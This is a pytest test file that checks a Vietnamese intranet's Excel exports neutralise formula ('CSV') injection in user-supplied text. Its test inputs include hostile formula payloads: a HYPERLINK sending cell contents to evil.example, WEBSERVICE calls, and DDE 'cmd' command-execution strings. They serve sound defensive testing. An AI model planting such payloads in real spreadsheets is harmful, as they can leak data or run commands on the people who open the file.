"""No text a user typed ever becomes a formula in an Excel export (OWASP "CSV injection").

A text starting with = + - @ (or tab / CR, which some importers trim first) is written with a leading
apostrophe; the only formulas in a sheet are the exports' own SUM totals. Built from plain data, no app.
"""

from __future__ import annotations

import io
import re
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from ntm_intranet.awards.documents import AwardListDoc, AwardRow, AwardSection, FormGroup, award_list_xlsx
from ntm_intranet.documents import sheet as xl
from ntm_intranet.documents.cells import cell_value, safe_text
from ntm_intranet.letterhead import Issuer
from ntm_intranet.reports.district_totals import CommuneCriteria
from ntm_intranet.reports.documents import sheets as xlsx

from .test_exports import COMMUNE_DUE, TODAY, _board, _campaign, _row, _state, _totals

LEADS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "cmd|' /C calc'!A0", "1+1",
            "SUM(A1:A9)+cmd|' /C calc'!A0"]
_TOTAL = re.compile(r"=SUM\([A-Z]+\d+(?::[A-Z]+\d+)?(?:,[A-Z]+\d+(?::[A-Z]+\d+)?)*\)")


def hostile_texts(tag: str) -> list[str]:
    return [f"{lead}{payload} {tag}" for lead in LEADS for payload in PAYLOADS]


def cells_of(data: bytes) -> list:
    return [cell for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for cell in row
            if cell.value is not None]


def assert_guarded(data: bytes, texts: list[str]) -> None:
    """Formulas are only the totals; no text starts like one; each hostile text reads back behind a '."""
    cells = cells_of(data)
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert all(_TOTAL.fullmatch(f) for f in formulas), formulas
    strings = [c.value for c in cells if c.data_type != "f" and isinstance(c.value, str)]
    assert not [s for s in strings if s.startswith(LEADS)]
    for text in texts:
        assert "'" + text in strings or any(("'" + text) in s for s in strings), text


# The guard itself ----------------------------------------------------------------------------------


@pytest.mark.parametrize("lead", LEADS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_starting_like_a_formula_is_neutralised(lead, payload):
    assert safe_text(lead + payload) == "'" + lead + payload
    assert cell_value(lead + payload) == "'" + lead + payload


@pytest.mark.parametrize("total", ["=SUM(D12:D14)", "=SUM(F12,F30,F41)", "=SUM(F9:F12,F20)"])
def test_the_exports_own_totals_stay_formulas(total):
    assert cell_value(total) == total


@pytest.mark.parametrize("text", ["=SUM(D12:D14)+HYPERLINK(\"http://evil.example\")", "=SUM(D1)\n",
                                  "=SUM(A1:A3);=cmd|' /C calc'!A0", "=sum(a1)", "=SUM()", "=SUM(Sheet2!A1)",
                                  "=WEBSERVICE(\"http://evil.example\")"])
def test_anything_else_that_looks_like_a_formula_is_text(text):
    assert cell_value(text) == "'" + text


@pytest.mark.parametrize("value", [1_150_000, -5, 12.345, None, date(2015, 6, 25), "Xã Triệu Nguyên", "a=b", ""])
def test_numbers_dates_and_plain_text_pass_unchanged(value):
    assert cell_value(value) == value


def test_every_cell_a_writer_makes_is_guarded_even_without_safe_text():
    """The last line of defence: a writer that forgets safe_text on a user's text still writes text."""
    wb = Workbook(write_only=True)
    made = xl.Sheet(wb, "Thử", [20, 20, 20], freeze="A2")
    texts = hostile_texts("quên safe_text")
    for text in texts:
        made.append([xl.cell(made.ws, text), text, xl.number(made.ws, "=SUM(A1:A2)")])
    out = io.BytesIO()
    wb.save(out)
    cells = cells_of(out.getvalue())
    assert [c.value for c in cells if c.data_type == "f"] == ["=SUM(A1:A2)"] * len(texts)
    assert [c.value for c in cells if c.column == 1] == ["'" + t for t in texts]
    assert [c.value for c in cells if c.column == 2] == ["'" + t for t in texts]


def test_only_the_sheet_module_makes_cells():
    """Every writer, in whichever room, goes through documents/sheet.py (`cell`, `Sheet.append`), where the
    guard is."""
    package = Path(xl.__file__).parents[1]
    direct = re.compile(r"WriteOnlyCell\(|\bws\.append\(|\.cell\(\s*row|\bws\[[^\]]+\]\.value\s*=")
    writers = [path for path in sorted(package.rglob("*.py")) if "openpyxl" in path.read_text()]
    offenders = [f"{path.relative_to(package)}: {match.group(0)}" for path in writers if path.name != "sheet.py"
                 for match in direct.finditer(path.read_text())]
    assert len(writers) >= 5  # the toolkit, the board and totals, the award list, the proposal, the estimate
    assert offenders == []


# Every workbook, with hostile text in every field a user fills ---------------------------------------


def test_board_xlsx_neutralises_hostile_unit_codes_names_and_campaign_title():
    names, codes = hostile_texts("tên"), hostile_texts("mã")
    rows = [_row(i, code, name, "commune", None, _state(COMMUNE_DUE), None)
            for i, (code, name) in enumerate(zip(codes, names, strict=True), 1)]
    campaign = _campaign()
    campaign.title = "=HYPERLINK(\"http://evil.example\") kế hoạch"
    assert_guarded(xlsx.board_xlsx(_board(rows), campaign, TODAY), names + codes + [campaign.title])


def test_totals_xlsx_neutralises_hostile_commune_names_and_campaign_title():
    totals = _totals()
    names = hostile_texts("xã")
    totals.communes = [CommuneCriteria(100 + i, f"X{i}", name, "accepted", {1}, {1, 2})
                       for i, name in enumerate(names)]
    campaign = _campaign()
    campaign.title = "@SUM(1+1)*cmd|' /C calc'!A0"
    data = xlsx.totals_xlsx(totals, campaign, TODAY)
    assert_guarded(data, names)
    # the money total is still a working formula
    assert any(c.data_type == "f" and c.value.startswith("=SUM(D") for c in cells_of(data))


def test_award_list_xlsx_neutralises_every_field_of_every_line():
    names, places, summaries = hostile_texts("tên"), hostile_texts("chức vụ"), hostile_texts("thành tích")
    form = "+Giấy khen =HYPERLINK(\"http://evil.example\")"
    rows = [AwardRow(i, name, place, summary, form, 345_000)
            for i, (name, place, summary) in enumerate(zip(names, places, summaries, strict=True), 1)]
    group = FormGroup(form, rows, 345_000 * len(rows))
    doc = AwardListDoc(decision_number="215", decision_date=date(2015, 6, 15), approved=True,
                       signer_name="-Nguyễn Văn Khánh", sections=[AwardSection("Cá nhân", [group], group.subtotal)],
                       grand_total=group.subtotal,
                       issuer=Issuer((("=UBND HUYỆN ĐAKRÔNG", True),), "Đakrông", "UBND huyện Đakrông"),
                       decided_by="Chủ tịch UBND huyện Đakrông")
    data = award_list_xlsx(doc)
    assert_guarded(data, names + places + summaries + [form, "-Nguyễn Văn Khánh", "=UBND HUYỆN ĐAKRÔNG"])
    assert sum(1 for c in cells_of(data) if c.data_type == "f") == 3  # form, section and grand totals
